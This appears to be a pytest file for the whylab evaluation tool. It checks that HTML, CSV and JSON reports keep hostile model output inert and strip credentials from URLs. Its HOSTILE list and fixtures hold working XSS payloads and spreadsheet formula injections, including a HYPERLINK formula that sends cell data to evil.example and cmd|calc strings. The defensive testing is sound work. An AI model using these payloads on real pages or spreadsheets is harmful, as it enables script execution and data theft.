"""Reports: hostile model output stays inert in every format; the HTML is self-contained."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tests.core.test_review_data import C, Item, P, R, Side, add_run, simple_items
from whylab.core.errors import BadInputError
from whylab.core.report import FORMATS, csv_safe, export_report, write_report
from whylab.core.report.data import safe_url
from whylab.core.storage import Store
from whylab.core.storage.reviews import ReviewStore

HOSTILE = [
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">click me</a>',
    "![tracker](https://evil.example/pixel.png)",
    '=HYPERLINK("http://evil.example/steal?d="&A1, "Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "</div></pre><iframe src='https://evil.example'></iframe>",
    "<svg onload=alert(1)><style>body{background:url(https://evil.example/x)}</style>",
]
SECRET_URL = "https://user:hunter2@llm.example:8443/v1?api_key=sk-secret-123#frag"
ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "h4", "p", "code",
    "table", "tr", "th", "td", "pre", "div", "span", "b", "br", "svg", "rect", "line", "text",
    "g",
}  # fmt: skip


class Collector(HTMLParser):
    """Every start tag with its attributes, and all text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    opened = Store.open(tmp_path / "p.sqlite")
    yield opened
    opened.close()


@pytest.fixture
def hostile_run(store: Store) -> dict[tuple[str, int, str], str]:
    items = [
        Item(
            f"h{k}",
            f"Prompt {k}: {text}",
            category="<b>cat</b>" if k == 0 else "plain",
            samples=[(Side(R, text, f"because {text}"), Side(C, text, text))],
        )
        for k, text in enumerate(HOSTILE)
    ]
    ids = add_run(store, "evil", items, base_url=SECRET_URL)
    reviews = ReviewStore(store.db)
    reviews.define_tag("weird", label="<script>alert('tag')</script>", colour="#123456")
    trial = ids[("h0", 0, "rule")]
    reviews.set_tag(trial, "weird", True, "<img src=x onerror=alert(2)>")
    reviews.set_tag(trial, "brittle_refusal", True, "=reviewer")
    reviews.set_note(trial, '=HYPERLINK("http://evil.example")<script>x</script>', "ana")
    reviews.set_human_verdict(trial, P, "-ana", reasoning="<script>y</script>")
    reviews.mark_reviewed([trial], "ana")
    return ids


def render(store: Store, fmt: str, run_id: str = "evil") -> str:
    out = io.StringIO()
    write_report(store.db, run_id, fmt, out)
    return out.getvalue()


def test_html_keeps_hostile_output_as_inert_text(store: Store, hostile_run: dict) -> None:
    page = render(store, "html")
    parser = Collector()
    parser.feed(page)
    parser.close()
    tags = {tag for tag, _attrs in parser.tags}
    assert tags <= ALLOWED_TAGS, tags - ALLOWED_TAGS
    for tag, attrs in parser.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert name not in {"src", "href", "srcset", "action", "formaction"}, (tag, name)
            assert "javascript:" not in (value or "").lower()
    text = "".join(parser.text)
    for hostile in HOSTILE:  # every byte of the model's text is shown, as text
        assert hostile.replace("\r", "\n") in text.replace("\r\n", "\n").replace("\r", "\n")
    assert "<script>alert('tag')</script>" in text  # a hostile tag label, as text
    assert "=reviewer" in page
    assert "-ana" in page


def test_html_is_self_contained(store: Store, hostile_run: dict) -> None:
    page = render(store, "html")
    assert not re.search(r"<script", page, re.IGNORECASE)
    assert not re.search(r"""(src|href)\s*=\s*["']?\s*(https?:)?//""", page, re.IGNORECASE)
    assert not re.search(r"<(link|iframe|object|embed|img)\b", page, re.IGNORECASE)
    assert "url(" not in page.split("</style>")[0]  # no CSS fetches
    assert "default-src 'none'" in page  # CSP: nothing runs or loads even if something slipped
    assert page.count("<svg") == 2  # the bar chart and the heat map


def test_manifest_hides_credentials_in_the_base_url(store: Store, hostile_run: dict) -> None:
    for fmt in FORMATS:
        output = render(store, fmt)
        assert "hunter2" not in output, fmt
        assert "sk-secret-123" not in output, fmt
    manifest = json.loads(render(store, "json"))["manifest"]
    assert manifest["provider"]["base_url"] == "https://llm.example:8443/v1"
    assert safe_url(None) is None


def test_csv_neutralises_formulas_without_losing_text(store: Store, hostile_run: dict) -> None:
    rows = list(csv.DictReader(io.StringIO(render(store, "csv"), newline="")))
    assert len(rows) == 2 * len(HOSTILE)
    triggers = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(triggers), (column, cell)
    responses = [row["response"] for row in rows if row["config"] == "rule"]
    for cell, original in zip(responses, HOSTILE, strict=True):
        restored = cell[1:] if original.startswith(triggers) else cell
        assert restored == original
    first = rows[0]
    assert first["verdict"] == "partial_refusal"
    assert first["verdict_set_by"] == "human"
    assert first["verdict_author"] == "'-ana"
    assert first["auto_verdict"] == "full_refusal"
    assert "weird (by <img src=x onerror=alert(2)>)" in first["tags"]
    assert rows[1]["verdict_set_by"] == "auto"
    assert rows[1]["verdict_author"] == "test/1"


def test_csv_safe() -> None:
    assert csv_safe("=1+1") == "'=1+1"
    assert csv_safe("a=1") == "a=1"
    assert csv_safe(-1.5) == -1.5
    assert csv_safe(None) is None


def test_jsonl_has_one_exact_record_per_trial(store: Store, hostile_run: dict) -> None:
    lines = render(store, "jsonl").splitlines()
    records = [json.loads(line) for line in lines]
    assert len(records) == 2 * len(HOSTILE)
    assert [r["response"] for r in records[::2]] == HOSTILE  # untouched in JSON
    first = records[0]
    assert first["human_labels"][0]["author"] == "-ana"
    assert first["human_labels"][0]["reasoning"] == "<script>y</script>"
    assert {t["tag"] for t in first["tags"]} == {"weird", "brittle_refusal"}
    assert first["reviewed_by"] == ["ana"]
    assert (first["verdict_set_by"], records[1]["verdict_set_by"]) == ("human", "auto")


def test_json_has_manifest_and_metrics(store: Store) -> None:
    add_run(store, "r", simple_items())
    document = json.loads(render(store, "json", "r"))
    manifest, metrics = document["manifest"], document["metrics"]
    assert manifest["system_prompts"] == {
        "rule": ["rule system prompt"],
        "why": ["why system prompt"],
    }
    assert manifest["models_reported"] == {"rule": [], "why": []}
    assert manifest["app_version"]
    assert manifest["params"]["temperature"] == 0.0
    assert metrics["configs"]["rule"]["over_refusal"]["successes"] == 2
    assert metrics["configs"]["rule"]["over_refusal"]["ci_low"] > 0
    assert metrics["flips"] == 3
    assert metrics["mcnemar_refusal_expected_comply"]["p_value"] == 0.5


def test_html_report_shows_metrics_flip_table_and_every_trial(store: Store) -> None:
    add_run(store, "r", simple_items())
    page = render(store, "html", "r")
    assert "rule system prompt" in page
    assert "why system prompt" in page
    assert "40.0% [11.8–76.9] (2/5)" in page  # rule over-refusal with its interval
    assert "3 of 5 pairs changed verdict" in page
    assert page.count('class="trial"') == 6
    assert page.count(">flip<") == 3
    assert "Failed: boom" in page


def test_compare_two_runs(store: Store) -> None:
    add_run(store, "v2", simple_items())
    items = simple_items()
    items[0].samples = [(Side(C), Side(P))]
    add_run(store, "v3", items)
    out = io.StringIO()
    assert write_report(store.db, "v2", "json", out, compare_with="v3") == 1
    document = json.loads(out.getvalue())
    assert document["comparison"]["changed"][0]["item_id"] == "a"
    page = io.StringIO()
    write_report(store.db, "v2", "html", page, compare_with="v3")
    assert "Outcomes that changed (1 of 11 matched trials)" in page.getvalue()


def test_unknown_run_or_format_writes_nothing(store: Store, tmp_path: Path) -> None:
    add_run(store, "r", simple_items()[:1])
    target = tmp_path / "out.html"
    with pytest.raises(BadInputError, match=r"There is no run 'nope'.*Recent runs: r"):
        export_report(store.db, "nope", "html", target)
    with pytest.raises(BadInputError, match="Unknown report format"):
        export_report(store.db, "r", "pdf", target)
    with pytest.raises(BadInputError, match="does not exist"):
        export_report(store.db, "r", "html", tmp_path / "missing" / "x.html")
    assert list(tmp_path.glob("out.html*")) == []
    assert not list(tmp_path.glob(".out*"))
    assert export_report(store.db, "r", "csv", target.with_suffix(".csv")) == 2
